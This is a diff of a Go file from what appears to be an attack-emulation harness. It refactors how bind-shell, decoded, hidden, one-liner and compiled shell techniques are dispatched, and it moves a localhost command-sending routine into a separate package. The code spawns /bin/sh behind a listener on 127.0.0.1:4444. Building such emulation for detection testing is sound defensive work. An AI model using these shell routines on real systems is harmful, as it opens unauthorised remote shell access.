@@ -9,31 +9,24 @@ package main
 import (
 	"context"
 	"errors"
-	"fmt"
-	"io"
 	"net"
 	"os"
 	"os/exec"
 	"strings"
-	"time"
 
 	"golang.org/x/sys/unix"
 
 	"github.com/detonaut/detonaut/actors/stage"
+	"github.com/detonaut/detonaut/actors/wire"
 )
 
 const place = "127.0.0.1:4444"
 
-func main() { stage.Play(execute) }
+func main() { stage.Play(stage.OneOf(ways)) }
 
-func execute(ctx context.Context) error {
-	ways := map[string]func(context.Context) error{
-		"bind": bind, "ask": ask, "decoded": decoded, "hidden": hidden, "one-liner": oneLiner, "compiled": compiled,
-	}
-	if len(os.Args) == 2 && ways[os.Args[1]] != nil {
-		return ways[os.Args[1]](ctx)
-	}
-	return errors.New("usage: execute bind|decoded|hidden|one-liner|compiled")
+var ways = map[string]stage.Deed{
+	"bind": bind, "ask": func(ctx context.Context) error { return wire.Command(ctx, place) },
+	"decoded": decoded, "hidden": hidden, "one-liner": oneLiner, "compiled": compiled,
 }
 
 func command(ctx context.Context, words ...string) *exec.Cmd {
@@ -76,21 +69,6 @@ func bind(ctx context.Context) error {
 		}
 	}
 	return unix.Exec("/bin/sh", []string{"sh"}, os.Environ())
-}
-
-// ask connects and gives a command.
-func ask(ctx context.Context) error {
-	d := net.Dialer{Timeout: 5 * time.Second}
-	conn, err := d.DialContext(ctx, "tcp", place)
-	if err != nil {
-		return err
-	}
-	defer conn.Close()
-	if _, err := fmt.Fprint(conn, "id\nexit\n"); err != nil {
-		return err
-	}
-	_, err = io.Copy(io.Discard, conn)
-	return err
 }
 
 // decoded feeds a shell through a decoder.
